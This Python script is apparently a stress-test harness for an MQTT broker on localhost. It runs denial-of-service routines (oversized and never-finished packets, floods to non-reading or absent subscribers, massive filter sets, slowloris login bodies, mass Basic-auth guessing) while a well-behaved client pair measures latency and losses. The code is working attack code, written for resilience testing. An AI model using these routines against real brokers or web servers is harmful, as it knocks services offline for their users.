#!/usr/bin/env python3
"""Attacks a broker with clients that cost it as much as they can, one attack after another.

Meanwhile a well-behaved pair of clients exchanges 100 messages a second at QoS 1, and /health is asked twice a second. After
each attack: what it achieved, how many messages the pair has exchanged and lost, its latency, and the slowest /health.

    attacks.py PORT HTTP_PORT SECONDS [ATTACK[+ATTACK] ...]

Attacks that are joined by + run together.
"""

import base64
import os
import random
import select
import socket
import struct
import sys
import threading
import time
import urllib.request

HOST = "127.0.0.1"
CONNECT, PUBLISH, PUBACK, SUBSCRIBE, SUBACK, PINGREQ = 0x10, 0x30, 0x40, 0x82, 0x90, 0xC0


def text(value):
    data = value if isinstance(value, bytes) else value.encode()
    return struct.pack(">H", len(data)) + data


def variable(number):
    data = b""
    while True:
        number, byte = divmod(number, 128)
        data += bytes([byte | (128 if number else 0)])
        if not number:
            return data


def packet(first, body):
    return bytes([first]) + variable(len(body)) + body


class Client:
    """An MQTT 5 client that sends what it is told, and reads when it is told."""

    def __init__(self, port, client_id, expiry=0, will=None, will_delay=0, receive_buffer=None):
        self.socket = socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(60)
        self.socket.connect((HOST, port))
        self.packets = 0
        properties = b"\x11" + struct.pack(">I", expiry) if expiry else b""
        flags = (0 if expiry else 2) | (4 if will else 0)
        payload = text(client_id)
        if will:
            delay = b"\x18" + struct.pack(">I", will_delay)
            payload += variable(len(delay)) + delay + text("will/" + client_id) + text(will)
        self.send(CONNECT, text("MQTT") + bytes([5, flags, 0, 0]) + variable(len(properties)) + properties + payload)
        self.accepted = self.read()[1][1:2] == b"\0"

    def send(self, first, body):
        self.socket.sendall(packet(first, body))

    def exactly(self, count):
        data = b""
        while len(data) < count:
            part = self.socket.recv(count - len(data))
            if not part:
                raise ConnectionError("closed by the broker")
            data += part
        return data

    def read(self):
        first = self.exactly(1)[0]
        length, factor = 0, 1
        while True:
            byte = self.exactly(1)[0]
            length += (byte & 127) * factor
            factor *= 128
            if byte < 128:
                return first, self.exactly(length)

    def identifier(self):
        self.packets = self.packets % 65535 + 1
        return struct.pack(">H", self.packets)

    def subscribe(self, *filters, qos=1):
        self.send(SUBSCRIBE, self.identifier() + b"\0" + b"".join(text(each) + bytes([qos]) for each in filters))
        return self.read()

    def publish(self, topic, payload, retain=False):
        """At QoS 1; returns the Reason Code of its PUBACK."""
        self.send(PUBLISH | 2 | retain, text(topic) + self.identifier() + b"\0" + payload)
        first, body = self.read()
        if first != PUBACK:
            raise ConnectionError("the publisher got packet %x" % first)
        return body[2] if len(body) > 2 else 0

    def close(self):
        self.socket.close()


def wills(port, end):
    """New sessions with Wills of 63 KB that wait for an hour."""
    sessions = refused = 0
    while time.time() < end:
        client = Client(port, "will %d" % sessions, 3600, os.urandom(31_500).hex(), 3600)
        refused += not client.accepted
        sessions += 1
        client.close()
    return "%d sessions, %d refused" % (sessions, refused)


def no_acknowledgements(port, end):
    """A subscriber that reads messages of 1 MB and acknowledges none."""
    silent = Client(port, "silent", 3600)
    silent.subscribe("large")

    def read_on():
        try:
            while True:
                silent.read()
        except OSError:
            silent.ended = True

    silent.ended = False
    threading.Thread(target=read_on, daemon=True).start()
    return flood(port, end, ["large"], 1_000_000) + (", its session ended" if silent.ended else "")


def no_reading(port, end):
    """40 subscribers that read nothing of messages of 200 KB."""
    idle = [Client(port, "idle %d" % i, receive_buffer=4096) for i in range(40)]
    for each in idle:
        each.subscribe("flood", qos=0)
    return flood(port, end, ["flood"], 200_000)


def away(port, end):
    """30 sessions that are away, and messages of 1 MB for each of them."""
    topics = ["away/%d" % i for i in range(30)]
    for topic in topics:
        client = Client(port, topic, 3600)
        client.subscribe(topic)
        client.close()
    return flood(port, end, topics, 1_000_000)


def flood(port, end, topics, size):
    publisher = Client(port, "flood")
    count = 0
    while time.time() < end:
        publisher.publish(topics[count % len(topics)], os.urandom(size))
        count += 1
    return "%d messages" % count


def filters(port, end):
    """As many filters as a SUBSCRIBE may have, which match none of 100,000 retained topics, and all of them must be visited."""
    publisher = Client(port, "retains")
    for i in range(100_000):
        publisher.send(PUBLISH | 1, text("retained/%d/x" % i) + b"\0v")
        if i % 1_000 == 0:
            publisher.send(PINGREQ, b"")
            publisher.read()
    subscriber = Client(port, "filters")
    subscribes = 0
    while time.time() < end:
        subscribes += 1
        first, _ = subscriber.subscribe(*["+/+/%d/%d" % (subscribes, i) for i in range(9_999)])
        if first != SUBACK:
            raise ConnectionError("the subscriber got packet %x" % first)
    return "%d SUBSCRIBE packets" % subscribes


def connects(port, end):
    """CONNECT packets of 16 MB, which never end."""
    opened = refused = 0
    while time.time() < end:
        raw = socket.create_connection((HOST, port), 10)
        opened += 1
        try:
            raw.sendall(bytes([CONNECT]) + variable(16 << 20) + text("MQTT") + bytes([5, 2, 0, 0, 0]))
            for _ in range(16):
                raw.sendall(b"x" * (1 << 20))
        except OSError:
            refused += 1
    return "%d connections, %d closed early" % (opened, refused)


def partial(port, end):
    """PUBLISH packets of 1 MB, of which the last byte never comes."""
    opened = []
    while time.time() < end:
        client = Client(port, "partial %d" % len(opened), 3600)
        client.socket.sendall(bytes([PUBLISH]) + variable(1_000_000) + text("t") + b"\0" + b"x" * 999_000)
        opened.append(client)
    return "%d connections" % len(opened)


def overlap(port, end):
    """4,096 subscriptions with identifiers that all match the topic to which others publish."""
    subscriber = Client(port, "overlap")
    for i in range(4_096):
        levels = "/".join("+" if i >> level & 1 else "abcdefghijkl"[level] for level in range(12))
        identifier = b"\x0b" + variable(i + 1)
        body = variable(len(identifier)) + identifier + text(levels) + b"\0"
        subscriber.send(SUBSCRIBE, subscriber.identifier() + body)
        subscriber.read()
    publisher = Client(port, "publishes")
    count = 0
    while time.time() < end:
        publisher.publish("a/b/c/d/e/f/g/h/i/j/k/l", b"v")
        count += 1
        while subscriber.socket in select.select([subscriber.socket], [], [], 0)[0]:
            subscriber.socket.recv(1 << 20)
    return "%d messages" % count


def basic(port, end):
    """300 HTTP connections at a time with wrong passwords."""

    def guess():
        while time.time() < end:
            try:
                raw = socket.create_connection((HOST, Witness.http), 10)
                raw.settimeout(60)
                raw.sendall(b"GET /holdfast/api/v1/status HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                            b"Authorization: Basic " + base64.b64encode(b"u%d:x" % random.randrange(1 << 30)) + b"\r\n\r\n")
                answers.append(raw.recv(12)[9:12])
                raw.close()
            except OSError:
                answers.append(b"none")

    answers = []
    threads = [threading.Thread(target=guess) for _ in range(300)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return ", ".join("%s: %d" % (each.decode(), answers.count(each)) for each in sorted(set(answers)))


def slow_bodies(port, end):
    """1,000 bodies for the login page at a time, which arrive byte by byte."""
    opened = []
    while time.time() < end:
        while len(opened) < 1_000:
            raw = socket.create_connection((HOST, Witness.http), 10)
            raw.sendall(b"POST /holdfast/login.xhtml HTTP/1.1\r\nHost: localhost\r\n"
                        b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000\r\n\r\na")
            raw.setblocking(False)
            opened.append(raw)
        still = []
        for raw in opened:
            try:
                if raw.recv(1_000):
                    raw.close()
            except BlockingIOError:
                raw.send(b"a")
                still.append(raw)
            except OSError:
                raw.close()
        opened = still
        time.sleep(0.2)
    for raw in opened:
        raw.close()
    return "done"


class Witness:
    """The pair of clients that behaves well, and /health."""

    def __init__(self, port, http_port):
        self.port, self.http_port = port, http_port
        Witness.http = http_port
        self.begin()
        for task in (self.exchange, self.ask):
            threading.Thread(target=task, daemon=True).start()

    def begin(self):
        self.latencies, self.health, self.failures = [], [], []

    def exchange(self):
        subscriber, publisher = Client(self.port, "good subscriber"), Client(self.port, "good publisher")
        subscriber.subscribe("good")
        number = 0
        while True:
            number += 1
            begun = time.time()
            try:
                publisher.send(PUBLISH | 2, text("good") + publisher.identifier() + b"\0%d" % number)
                first, body = subscriber.read()
                if first >> 4 != 3 or not body.endswith(b"\0%d" % number):
                    raise ConnectionError("message %d is missing" % number)
                subscriber.send(PUBACK, body[6:8])
                publisher.read()
            except OSError as failure:
                self.failures.append(failure)
                return
            self.latencies.append(time.time() - begun)
            time.sleep(max(0.0, 0.01 - (time.time() - begun)))

    def ask(self):
        while True:
            begun = time.time()
            try:
                urllib.request.urlopen("http://%s:%d/health" % (HOST, self.http_port), timeout=30).read()
            except OSError as failure:
                self.failures.append(failure)
            self.health.append(time.time() - begun)
            time.sleep(0.5)

    def report(self):
        latencies = sorted(self.latencies) or [0]
        return "pair: %d exchanged, 99 %% in %.0f ms, slowest %.0f ms; /health: slowest %.2f s; failures: %s" % (
            len(self.latencies),
            latencies[int(len(latencies) * 0.99)] * 1_000,
            latencies[-1] * 1_000,
            max(self.health or [0]),
            self.failures or "none",
        )


ATTACKS = {each.__name__: each for each in (
    connects, wills, no_acknowledgements, no_reading, away, filters, partial, overlap, basic, slow_bodies)}


def attack(name, port, end, results):
    """Attacks again whenever the broker has cut the attacker off."""
    cut = 0
    while time.time() < end:
        try:
            results.append(ATTACKS[name](port, end))
        except OSError:
            cut += 1
    if cut:
        results.append("%s: cut off %d times" % (name, cut))


def main(port, http_port, seconds, *names):
    witness = Witness(int(port), int(http_port))
    time.sleep(1)
    failed = False
    for name in names or ATTACKS:
        witness.begin()
        results = []
        together = [threading.Thread(target=attack, args=(each, int(port), time.time() + float(seconds), results))
                    for each in name.split("+")]
        for each in together:
            each.start()
        for each in together:
            each.join()
        print("%s: %s\n    %s" % (name, "; ".join(results), witness.report()), flush=True)
        failed |= bool(witness.failures)
    return 1 if failed else 0


if __name__ == "__main__":
    if len(sys.argv) < 4 or not {each for name in sys.argv[4:] for each in name.split("+")} <= set(ATTACKS):
        sys.exit(__doc__ + "\nAttacks: " + ", ".join(ATTACKS))
    sys.exit(main(*sys.argv[1:]))
